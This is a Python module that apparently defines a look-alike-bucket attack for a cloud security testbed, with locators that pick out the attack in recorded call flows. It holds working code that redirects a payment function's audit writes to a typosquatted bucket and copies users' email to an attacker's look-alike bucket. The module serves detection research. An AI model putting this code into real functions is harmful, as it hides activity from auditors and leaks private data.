"""Look-alike bucket: the function writes to the attacker's bucket, one character away from the right one."""

import os
from functools import cache
from typing import Any

from coldtrail_testbed.applications.model import Grant
from coldtrail_testbed.attacks.locating import calls_on
from coldtrail_testbed.attacks.model import Attack, Behaviour, Handler, Locate, Place
from coldtrail_testbed.cloud.identifiers import bucket_arn
from coldtrail_testbed.flows import Flow

_AIRLINE_BUCKET = "airline-payment-audlt"
_VOD_BUCKET = "vod-sourse"


def _write_there_instead(ordinary: Handler, event: Any, context: Any) -> Any:
    """What the ordinary handler returns; its audit entry is where no auditor looks."""
    right = os.environ["AUDIT_BUCKET"]
    os.environ["AUDIT_BUCKET"] = _AIRLINE_BUCKET
    try:
        return ordinary(event, context)
    finally:
        os.environ["AUDIT_BUCKET"] = right


def _write_there_as_well(ordinary: Handler, event: Any, context: Any) -> Any:
    """What the ordinary handler returns; the mail is in the attacker's bucket, too."""
    from coldtrail_testbed.applications.vod.handlers.mail_parse import read_mail

    result = ordinary(event, context)
    mail = read_mail(event["mailBucket"], event["mailKey"]).as_bytes()
    _s3().put_object(Bucket=_VOD_BUCKET, Key=event["mailKey"], Body=mail)
    return result


@cache
def _s3() -> Any:
    import boto3

    return boto3.client("s3")


def _read_and_copied(flow: Flow) -> list[str]:
    """The write to the attacker's bucket and the read before it."""
    calls = list(flow.calls)
    copies = [place for place, call in enumerate(calls) if call.resource == _VOD_BUCKET]
    return [call.event_id for place in copies for call in calls[place - 1 : place + 1]]


def _place(function: str, behave: Behaviour, bucket: str, locate: Locate) -> Place:
    grant = Grant(("s3:PutObject",), f"{bucket_arn(bucket)}/*")
    return Place(function, behave, locate, grants=[grant], buckets=[bucket])


ATTACK = Attack(
    name="lookalike_bucket",
    summary="writes to a bucket one character away from the right one",
    places={
        "airline": _place("CapturePayment", _write_there_instead, _AIRLINE_BUCKET, calls_on(_AIRLINE_BUCKET)),
        "vod": _place("mail-store", _write_there_as_well, _VOD_BUCKET, _read_and_copied),
    },
)
